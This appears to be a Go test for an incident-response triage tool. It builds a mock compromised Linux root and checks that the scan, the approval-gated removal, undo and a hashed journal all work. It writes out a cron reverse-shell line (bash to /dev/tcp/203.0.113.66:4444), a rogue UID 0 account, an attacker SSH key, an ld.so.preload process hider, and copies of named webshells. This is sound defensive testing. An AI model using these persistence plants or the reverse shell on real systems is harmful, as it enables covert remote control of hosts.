package triage_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/firebreak-ir/firebreak/appliance/internal/cases"
	"github.com/firebreak-ir/firebreak/appliance/internal/journal"
	"github.com/firebreak-ir/firebreak/appliance/internal/triage"
)

// plantRoot builds a compromised Linux root: webshells in the web root,
// a second UID 0 account, a cron reverse shell, a systemd reverse-shell
// unit enabled by a link, an added root key, an ld.so.preload entry, and
// password guessing followed by a success in auth.log.
func plantRoot(t *testing.T) string {
	shells := needTestdata(t, "webshells/malicious")
	poc := needTestdata(t, "hostfs/systemd-persistence-poc")
	root := filepath.Join(t.TempDir(), "web01")
	write(t, root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"+
		"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n"+
		"toor:x:0:0::/root:/bin/bash\n", 0o644)
	write(t, root, "etc/shadow", "root:$6$Qm2f$8mBx:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\n"+
		"alice:$6$a1$b2:19700:0:99999:7:::\ntoor:$6$zz$yy:20400:0:99999:7:::\n", 0o640)
	write(t, root, "etc/group", "root:x:0:\nwww-data:x:33:\nalice:x:1000:\n", 0o644)
	write(t, root, "etc/cron.d/sysupdate", "# keep the clock right\n17 * * * * root /usr/sbin/ntpdate -s pool.ntp.org\n"+
		"*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n", 0o644)
	copyFile(t, filepath.Join(poc, "ScheduledReverseShell/revshell.service"), root, "etc/systemd/system/revshell.service", 0o644)
	require.NoError(t, os.MkdirAll(filepath.Join(root, "etc/systemd/system/multi-user.target.wants"), 0o755))
	require.NoError(t, os.Symlink("/etc/systemd/system/revshell.service", filepath.Join(root, "etc/systemd/system/multi-user.target.wants/revshell.service")))
	write(t, root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk3Z2Fh8c0J0bq3o7yQ9yqS2O7nqC8m9Vxq8G0pQyQf admin@web01\n"+
		"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDfX1attackerkeymaterial0000000000000000000000000000 root@kali\n", 0o600)
	write(t, root, "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libprocesshider.so\n", 0o644)
	var auth strings.Builder
	for i := range 14 {
		fmt.Fprintf(&auth, "Nov 23 02:1%d:%02d web01 sshd[%d]: Failed password for root from 198.51.100.23 port %d ssh2\n", i/6, i*4%60, 4000+i, 50000+i)
	}
	auth.WriteString("Nov 23 02:14:10 web01 sshd[4100]: Accepted password for root from 198.51.100.23 port 50111 ssh2\n")
	write(t, root, "var/log/auth.log", auth.String(), 0o640)
	write(t, root, "var/log/apache2/access.log", ``+
		`192.0.2.10 - - [23/Nov/2026:01:58:00 +0000] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"`+"\n"+
		`198.51.100.23 - - [23/Nov/2026:02:20:11 +0000] "POST /wp-content/uploads/ice.php HTTP/1.1" 200 12 "-" "Mozilla/5.0"`+"\n"+
		`198.51.100.23 - - [23/Nov/2026:02:19:40 +0000] "GET /wp-content/uploads/ice.php HTTP/1.1" 200 0 "-" "Mozilla/5.0"`+"\n", 0o640)
	write(t, root, "var/www/html/index.php", "<?php\n// front page\nrequire __DIR__ . '/wp-blog-header.php';\n", 0o644)
	copyFile(t, filepath.Join(shells, "php/chopper_ice.php"), root, "var/www/html/wp-content/uploads/ice.php", 0o644)
	copyFile(t, filepath.Join(shells, "php/behinder_shell.php"), root, "var/www/html/images/logo.php", 0o644)
	copyFile(t, filepath.Join(shells, "jsp/godzilla_123.jsp"), root, "var/www/html/manager/status.jsp", 0o644)
	// Owners and old times, as on a real host, so that undo is seen to
	// restore them too.
	old := time.Date(2026, 10, 1, 8, 0, 0, 0, time.UTC)
	require.NoError(t, filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || fi.Mode()&os.ModeSymlink != 0 {
			return err
		}
		if strings.Contains(p, "/var/www/") {
			if err := os.Lchown(p, 33, 33); err != nil {
				return err
			}
		}
		return os.Chtimes(p, old, old)
	}))
	return root
}

// TestTriageCompromisedRoot is the whole eradication: collect, scan finds
// every plant, plan and apply remove each, undo restores each byte for
// byte, and the journal holds every step with hashes.
func TestTriageCompromisedRoot(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: the planted files are owned by www-data (33) and undo restores owners")
	}
	root := plantRoot(t)
	e := newEnv(t)
	ctx := context.Background()
	before := snapshot(t, root)

	tg, err := triage.Open(ctx, triage.Spec{Target: root})
	require.NoError(t, err)
	col, err := e.svc.Collect(ctx, "alice", e.caseID, tg)
	require.NoError(t, tg.Close())
	require.NoError(t, err)
	assert.Positive(t, col.Exhibits)
	var passwd cases.TriageFile
	for _, f := range col.Files {
		if f.Path == "/etc/passwd" {
			passwd = f
		}
	}
	require.Equal(t, "/etc/passwd", passwd.Path, "passwd collected")
	assert.NotZero(t, passwd.Inode)
	assert.Equal(t, int64(len(before["etc/passwd"].Content)), passwd.Size)
	assert.Equal(t, uint32(0o100644), passwd.Mode)
	assert.Equal(t, before["etc/passwd"].MTime, passwd.MTime.UnixNano())
	assert.Equal(t, before, snapshot(t, root), "collection changed the target")

	res, err := e.svc.Scan(ctx, "alice", e.caseID, root)
	require.NoError(t, err)
	for _, f := range res.Findings {
		t.Logf("%-6s %-11s sev %d %-45q %s", f.ID, f.Module, f.Severity, f.Path, f.Signature)
	}
	want := map[string]string{ // path → module that must find it
		"/var/www/html/wp-content/uploads/ice.php": "webshell",
		"/var/www/html/images/logo.php":            "webshell",
		"/var/www/html/manager/status.jsp":         "webshell",
		"/etc/passwd":                              "accounts",
		"/etc/cron.d/sysupdate":                    "persistence",
		"/etc/systemd/system/revshell.service":     "persistence",
		"/root/.ssh/authorized_keys":               "persistence",
		"/etc/ld.so.preload":                       "persistence",
		"/var/log/auth.log":                        "authlog",
	}
	for path, module := range want {
		found := false
		for _, f := range res.Findings {
			found = found || f.Path == path && f.Module == module
		}
		assert.True(t, found, "%s: no %s finding", path, module)
	}
	for _, f := range res.Findings {
		assert.NotEqual(t, "/var/www/html/index.php", f.Path, "false positive on the front page")
	}
	var success bool
	for _, f := range res.Findings {
		success = success || f.Module == "authlog" && strings.Contains(f.Signature, "logged in from 198.51.100.23 after 14 failed attempts")
	}
	assert.True(t, success, "the success after guessing is found")
	var entry bool
	for _, f := range res.Findings {
		entry = entry || f.Module == "weblog" && f.Path == "/var/www/html/wp-content/uploads/ice.php" &&
			strings.Contains(f.Signature, "GET /wp-content/uploads/ice.php from 198.51.100.23 at 2026-11-23T02:19:40Z")
	}
	assert.True(t, entry, "the first request to the webshell is named")

	plan, err := e.svc.Plan(ctx, "alice", e.caseID, root)
	require.NoError(t, err)
	wantSteps := map[string]string{ // type target → found
		"quarantine_file /var/www/html/wp-content/uploads/ice.php": "", "quarantine_file /var/www/html/images/logo.php": "",
		"quarantine_file /var/www/html/manager/status.jsp": "", "remove_account /etc/passwd": "toor",
		"remove_line /etc/cron.d/sysupdate":                 "*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
		"disable_unit /etc/systemd/system/revshell.service": "", "remove_line /etc/ld.so.preload": "/usr/lib/x86_64-linux-gnu/libprocesshider.so",
		"remove_line /root/.ssh/authorized_keys": "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDfX1attackerkeymaterial0000000000000000000000000000 root@kali",
	}
	got := map[string]bool{}
	for _, s := range plan.Steps {
		t.Logf("%-7s %-16s %-45s %q refused=%q", s.ID, s.Type, s.Target, s.Detail, s.Refused)
		assert.Empty(t, s.Refused)
		assert.NotEmpty(t, s.Answers)
		key := s.Type + " " + s.Target
		if d, ok := wantSteps[key]; ok && (d == "" || d == s.Detail) {
			got[key] = true
		}
	}
	for k := range wantSteps {
		assert.True(t, got[k], "no step %s", k)
	}
	// The admin's own key is not proposed for removal... it is reported as a
	// key to confirm, so it is proposed too; the engineer does not approve it.
	var apply []cases.TriageStepRec
	for _, s := range plan.Steps {
		if s.Type == "remove_line" && strings.Contains(s.Detail, "admin@web01") {
			continue
		}
		apply = append(apply, s)
	}

	// Nothing is applied without approval.
	_, err = e.svc.Apply(ctx, "alice", e.caseID, apply[0].ID)
	require.ErrorIs(t, err, triage.ErrRefused)
	assert.Equal(t, before, snapshot(t, root))

	for _, s := range apply {
		require.NoError(t, e.svc.Approve(ctx, "bob", e.caseID, s.ID))
		r, err := e.svc.Apply(ctx, "bob", e.caseID, s.ID)
		require.NoError(t, err, "apply %s %s", s.Type, s.Target)
		require.NotEmpty(t, r.Changes)
		for _, ch := range r.Changes {
			if ch.Link == "" {
				assert.Len(t, ch.Before, 64, "%s: before hash", ch.Path)
				assert.True(t, e.vault.Has(ch.Original), "%s: original in the vault", ch.Path)
			}
		}
	}
	after := snapshot(t, root)
	for _, gone := range []string{"var/www/html/wp-content/uploads/ice.php", "var/www/html/images/logo.php", "var/www/html/manager/status.jsp",
		"etc/systemd/system/revshell.service", "etc/systemd/system/multi-user.target.wants/revshell.service"} {
		_, ok := after[gone]
		assert.False(t, ok, "%s still there", gone)
	}
	assert.NotContains(t, after["etc/passwd"].Content, "toor")
	assert.NotContains(t, after["etc/shadow"].Content, "toor")
	assert.Contains(t, after["etc/passwd"].Content, "alice:x:1000")
	assert.Equal(t, "# keep the clock right\n17 * * * * root /usr/sbin/ntpdate -s pool.ntp.org\n", after["etc/cron.d/sysupdate"].Content)
	assert.Equal(t, "", after["etc/ld.so.preload"].Content)
	assert.Contains(t, after["root/.ssh/authorized_keys"].Content, "admin@web01")
	assert.NotContains(t, after["root/.ssh/authorized_keys"].Content, "root@kali")
	assert.Equal(t, before["etc/shadow"].Mode, after["etc/shadow"].Mode, "a rewritten file keeps its mode")
	assert.Equal(t, before["var/www/html/index.php"], after["var/www/html/index.php"])

	// Undo every step, newest first: the tree is as it was, byte for byte,
	// with owners, modes, times and links.
	for i := len(apply) - 1; i >= 0; i-- {
		_, err := e.svc.Undo(ctx, "bob", e.caseID, apply[i].ID)
		require.NoError(t, err, "undo %s", apply[i].ID)
	}
	assert.Equal(t, before, snapshot(t, root))

	// The journal holds every step, with hashes, and verifies.
	c := e.view(t)
	types := map[string]int{}
	var entries []journal.Entry
	require.NoError(t, e.store.Entries(e.caseID, 0, func(en journal.Entry) error { entries = append(entries, en); return nil }))
	for _, en := range entries {
		types[en.Type]++
		if en.Type == cases.TypeTriageStepApplied {
			var r cases.TriageStepResult
			require.NoError(t, json.Unmarshal(en.Payload, &r))
			for _, ch := range r.Changes {
				assert.True(t, ch.Link != "" || len(ch.Before) == 64, "%s: %+v", r.Step, ch)
			}
		}
	}
	assert.Equal(t, len(apply), types[cases.TypeTriageStepApproved])
	assert.Equal(t, len(apply), types[cases.TypeTriageStepApplied])
	assert.Equal(t, len(apply), types[cases.TypeTriageStepUndone])
	assert.Equal(t, 1, types[cases.TypeTriagePlanned])
	for _, s := range c.Triage.Plans[0].Steps {
		if s.Status != cases.StepProposed {
			assert.Equal(t, cases.StepUndone, s.Status, s.ID)
		}
	}
	n, err := e.book.Verify(e.caseID)
	require.NoError(t, err)
	t.Logf("journal: %d entries verified; %v", n, types)
}
